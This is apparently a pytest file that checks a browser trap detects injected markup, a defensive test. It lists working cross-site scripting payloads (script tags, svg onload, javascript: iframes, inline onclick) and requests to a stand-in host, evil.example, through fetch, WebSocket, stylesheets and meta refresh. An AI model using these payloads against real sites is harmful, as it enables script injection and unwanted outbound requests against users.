"""The trap itself: what it must catch, it does. Without this the other tests prove nothing."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.attacks.conftest import Bench, Trapped, telling
from tests.attacks.corpus import HTML, IMG
from tests.helpers import wait_until

pytestmark = pytest.mark.browser

CAUGHT = {
    "an event handler": (IMG, "executed"),
    "a script": ("<script>pwn(1)</script>", "executed"),
    "an svg": ("<svg onload=pwn(1)>", "executed"),
    "a frame": ("<iframe srcdoc='<script>parent.pwn(1)</script>'></iframe>", "executed"),
    "a script address": ("<iframe src=javascript:parent.pwn(1)></iframe>", "executed"),
    "a style sheet": (
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "request: https://evil.example/x.css",
    ),
    "a background": (
        "<div style='background:url(https://evil.example/x)'>x</div>",
        "request: https://evil.example/x",
    ),
    "a refresh": (
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "request: https://evil.example/",
    ),
    "a dialog": ("<script>alert(1)</script>", "called alert"),
    "a fetch": ("<script>fetch('https://evil.example/x')</script>", "called fetch"),
    "a socket": ("<script>new WebSocket('wss://evil.example')</script>", "made WebSocket"),
    "a window": ("<script>open('https://evil.example')</script>", "called open"),
}


@pytest.mark.parametrize("what", CAUGHT)
def test_it_catches(open_page: Callable[[], Trapped], what: str) -> None:
    markup, wanted = CAUGHT[what]
    trapped = open_page()
    trapped.page.set_content(f"<!doctype html><body>{markup}", wait_until="commit")
    wait_until(lambda: any(wanted in each for each in trapped.problems()), what=wanted)


def test_most_of_the_markup_vectors_bite_where_nothing_escapes_them(open_page: Callable[[], Trapped]) -> None:
    chosen = HTML[::3]
    quiet: dict[str, Trapped] = {}
    for vector in chosen:
        # A context for each: one that goes somewhere takes no other with it.
        trapped = open_page()
        trapped.page.set_content(f"<!doctype html><body>{vector.text}", wait_until="commit")
        if trapped.problems():
            trapped.close()
        else:
            quiet[vector.id] = trapped
    # Some need a click, another context, or a browser of the past; some a moment.
    wait_until(
        lambda: sum(not trapped.problems() for trapped in quiet.values()) < len(chosen) / 2,
        timeout=60.0,
        what=f"most of them to bite; quiet are {list(quiet)}",
    )


LEAKS = {
    "markup from a string": (
        "(text) => { const el = document.createElement('div'); document.body.append(el);"
        " try { el.attachShadow({ mode: 'open' }).innerHTML = text; } catch {} }",
        "wrote innerHTML",
    ),
    "an element that fetches": (
        "(text) => { const el = document.createElement('img'); el.src = 'https://evil.example/x.png'; }",
        "against the policy",
    ),
    "a hidden character": (
        "() => { const el = document.createElement('div'); document.body.append(el);"
        " el.attachShadow({ mode: 'open' }).append('a\\u202eb'); }",
        "a hidden character is shown as it is",
    ),
    "a hidden character in a title": (
        "() => { const el = document.createElement('div'); document.body.append(el);"
        " const span = document.createElement('span'); el.attachShadow({ mode: 'open' }).append(span); span.title = 'a\\u200bb'; }",
        "a hidden character is shown as it is",
    ),
    "an event handler": (
        "() => { const el = document.createElement('div'); document.body.append(el);"
        " try { el.setAttribute('onclick', 'pwn(1)'); } catch {} }",
        "against the policy",
    ),
}


@pytest.mark.parametrize("what", LEAKS)
def test_it_catches_in_the_page_of_views(bench: Bench, what: str) -> None:
    script, wanted = LEAKS[what]
    assert bench.problems() == []
    bench.page.evaluate(script, IMG)
    wait_until(lambda: any(wanted in each for each in bench.problems()), what=wanted)


def test_it_sees_elements_that_data_made(bench: Bench) -> None:
    bench.page.evaluate(
        "() => { const el = document.createElement('div'); document.body.append(el);"
        " const a = document.createElement('a'); a.setAttribute('href', 'x'); el.attachShadow({ mode: 'open' }).append(a); }"
    )
    wait_until(lambda: (bench.problems() or True) and "href" in bench.attributes, what="the link")
    assert {"a", "div"} <= bench.tags


def test_only_inert_attributes_of_the_sources_need_not_be_usual() -> None:
    seen = {"class", "data-state", "aria-label", "data-evil", "onclick", "src", "href"}
    assert telling(seen, {"class"}) == {"data-evil", "onclick", "src", "href"}
